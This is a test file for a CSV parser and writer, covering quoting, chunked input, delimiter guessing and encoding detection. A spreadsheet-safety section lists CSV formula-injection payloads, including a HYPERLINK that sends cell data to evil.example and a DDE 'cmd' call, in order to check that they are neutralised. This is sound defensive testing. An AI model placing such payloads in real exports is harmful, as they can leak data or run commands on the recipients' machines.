import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import {
  CsvParser,
  csvLine,
  detectEncoding,
  type Encoding,
  guessDelimiter,
  neutraliseCell,
  readCsv,
  restoreCell,
} from "./csv.ts";

const parse = (chunks: string[], delimiter = ",") => {
  const p = new CsvParser(delimiter);
  return [...chunks.flatMap((c) => p.push(c)), ...p.end()];
};

describe("CsvParser", () => {
  it("reads quoted cells with delimiters, doubled quotes and line breaks", () => {
    expect(parse(['name,note\r\n"Acme, Inc.","said ""hi""\nthen left"\r\nBeta,x'])).toEqual([
      ["name", "note"],
      ["Acme, Inc.", 'said "hi"\nthen left'],
      ["Beta", "x"],
    ]);
  });

  it("gives the same records whatever the chunk boundaries", () => {
    const text = '\ufeffa,b\r\n"x ""y""",2\r\n3,"4\r\n5"\n';
    const whole = parse([text]);
    for (let cut = 1; cut < text.length; cut++)
      expect(parse([text.slice(0, cut), text.slice(cut)])).toEqual(whole);
    expect(whole).toEqual([
      ["a", "b"],
      ['x "y"', "2"],
      ["3", "4\r\n5"],
    ]);
  });

  it("guesses a semicolon or tab delimiter from the header", () => {
    expect(guessDelimiter("Name;Amount;Close Date")).toBe(";");
    expect(guessDelimiter("Name\tAmount")).toBe("\t");
    expect(guessDelimiter('"a;b",c')).toBe(",");
  });
});

describe("csvLine", () => {
  it("quotes only the cells that need it", () => {
    expect(csvLine(["plain", "a,b", 'say "x"', "two\nlines"])).toBe('plain,"a,b","say ""x""","two\nlines"');
  });
});

describe("spreadsheet safety (OWASP CSV injection)", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "-1500.00",
    "\tTabbed",
    "\rCarriage",
    "=1+2\";=cmd|' /C calc'!A0",
    "x;=cmd()",
    "a,=b",
    "'=already quoted",
    "''@twice",
    "'plain quote",
    "plain",
    "",
  ];
  /** Where each cell's text starts on the line: after its opening quote, if it has one. */
  const starts = (line: string) => {
    const p = new CsvParser(",");
    return [...p.push(line), ...p.end()][0]!;
  };

  it("writes no cell a spreadsheet would start as a formula", () => {
    const line = csvLine(hostile);
    for (const cell of starts(line)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(starts(line)[0]).toBe(`'${hostile[0]}`);
  });

  it("quotes a cell holding ; or a tab, so a spreadsheet splitting on them cannot start a new cell", () => {
    expect(csvLine(["x;=cmd()", "a\tb"])).toBe('"x;=cmd()","a\tb"');
  });

  it("reads back the original text of every cell, whatever it started with", () => {
    const p = new CsvParser(",");
    const [cells] = [...p.push(`${csvLine(hostile)}\n`), ...p.end()];
    expect(cells!.map(restoreCell)).toEqual(hostile);
  });

  it("leaves text that was never neutralised as it is", () => {
    expect(restoreCell("'plain quote")).toBe("'plain quote");
    expect(restoreCell("O'Brien")).toBe("O'Brien");
    expect(neutraliseCell("O'Brien")).toBe("O'Brien");
  });
});

describe("readCsv: files as spreadsheets save them", () => {
  const dir = mkdtempSync(join(tmpdir(), "accountable-csv-"));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const records = async (bytes: Uint8Array, encoding?: Encoding) => {
    const file = join(dir, `f-${Math.random().toString(36).slice(2)}.csv`);
    writeFileSync(file, bytes);
    const out: string[][] = [];
    for await (const r of readCsv(file, undefined, encoding)) out.push([...r.cells]);
    return out;
  };
  const expected = [
    ["Deal", "Owner", "Note"],
    ["Café crème", "Zoë Ray", "said:\nyes"],
  ];
  const text = 'Deal;Owner;Note\r\nCafé crème;Zoë Ray;"said:\nyes"\r\n';
  const utf16le = (s: string) => Buffer.from(s, "utf16le");
  const utf16be = (s: string) => {
    const b = Buffer.from(s, "utf16le");
    for (let i = 0; i < b.length; i += 2) [b[i], b[i + 1]] = [b[i + 1]!, b[i]!];
    return b;
  };

  it("reads UTF-8 with and without a byte-order mark, ; separated, with a newline inside quotes", async () => {
    expect(await records(Buffer.from(text, "utf8"))).toEqual(expected);
    expect(
      await records(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, "utf8")])),
    ).toEqual(expected);
  });

  it("reads UTF-16 (Excel's Unicode text: a mark, tabs), little- or big-endian, and without a mark", async () => {
    const tabs = text.replace(/;/g, "\t");
    expect(await records(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(tabs)]))).toEqual(expected);
    expect(await records(Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(tabs)]))).toEqual(expected);
    expect(await records(utf16le(tabs))).toEqual(expected);
  });

  it("reads Windows-1252 (Excel's CSV on Windows): é and ë are one byte each, detected as not UTF-8", async () => {
    const bytes = Buffer.from(text, "latin1");
    expect(bytes.includes(0xe9)).toBe(true);
    expect(detectEncoding(bytes)).toBe("windows-1252");
    expect(await records(bytes)).toEqual(expected);
    // The euro sign is 0x80 in Windows-1252 (not in Latin-1).
    expect(await records(Buffer.from([...Buffer.from("a;b\n"), 0x80, 0x3b, 0x31, 0x0a]))).toEqual([
      ["a", "b"],
      ["€", "1"],
    ]);
  });

  it("takes --encoding over detection, and refuses a file that stops being UTF-8 further on", async () => {
    expect(await records(Buffer.from("a\nZo\xeb\n", "latin1"), "windows-1252")).toEqual([["a"], ["Zoë"]]);
    const late = Buffer.concat([Buffer.from(`x\n${"a\n".repeat(200_000)}`), Buffer.from([0xe9, 0x0a])]);
    await expect(records(late)).rejects.toThrow(/not UTF-8 after byte .*--encoding/);
  });
});

describe("CsvParser: the cases a spreadsheet export brings (csv-parse underneath)", () => {
  it("reads a ; separated file whose quoted cells hold ; , and a CR LF", () => {
    expect(parse(['Deal;Note\r\n"Acme; Inc.";"a, b\r\nc"\r\nBeta;x\r\n'], ";")).toEqual([
      ["Deal", "Note"],
      ["Acme; Inc.", "a, b\r\nc"],
      ["Beta", "x"],
    ]);
  });

  it("ends a record at CR LF, LF or a lone CR, mixed in one file, and adds no record for a trailing line break", () => {
    expect(parse(["a,b\r\n1,2\n3,4\r5,6\r\n"])).toEqual([
      ["a", "b"],
      ["1", "2"],
      ["3", "4"],
      ["5", "6"],
    ]);
  });

  it("keeps a quote inside an unquoted cell as text, and rows of any length", () => {
    expect(parse(['name,x\nO"Brien,1,extra\nshort\n'])).toEqual([
      ["name", "x"],
      ['O"Brien', "1", "extra"],
      ["short"],
    ]);
  });

  it("refuses a quote never closed, naming the line it opened on (quoted line breaks counted)", () => {
    const p = new CsvParser(",", "deals.csv");
    expect(p.push('a,b\n"x\ny",1\n\n2,"open\n')).toHaveLength(3);
    expect(p.push("still open\n")).toEqual([]);
    expect(() => p.end()).toThrow(
      'deals.csv: the quoted cell opening on line 5 is never closed, so every line after it would be read as one cell: close its quote (a quote inside a quoted cell is written twice: "").',
    );
  });
});

describe("readCsv: edges of a file", () => {
  const dir = mkdtempSync(join(tmpdir(), "accountable-csv-edges-"));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const records = async (text: string) => {
    const file = join(dir, `f-${Math.random().toString(36).slice(2)}.csv`);
    writeFileSync(file, text);
    const out: string[][] = [];
    for await (const r of readCsv(file)) out.push([...r.cells]);
    return out;
  };

  it("reads a header-only file as its header, with or without a line break after it", async () => {
    expect(await records("Deal;Client;Value")).toEqual([["Deal", "Client", "Value"]]);
    expect(await records("Deal;Client;Value\r\n")).toEqual([["Deal", "Client", "Value"]]);
  });

  it("leaves out blank lines, a trailing one included, and guesses ; past a quoted ,", async () => {
    expect(await records('"Deal, name";Value\r\n\r\n"A, b";1\r\n   \r\n\r\n')).toEqual([
      ["Deal, name", "Value"],
      ["A, b", "1"],
    ]);
  });

  it("refuses a file with a quote never closed, saying which file and line, before any record after it", async () => {
    const file = join(dir, "open-quote.csv");
    writeFileSync(file, 'Deal,Note\nAcme,"fine"\nGlobex,"never closed\nInitech,x\n');
    await expect(async () => {
      for await (const _ of readCsv(file));
    }).rejects.toThrow(`${file}: the quoted cell opening on line 3 is never closed`);
  });
});
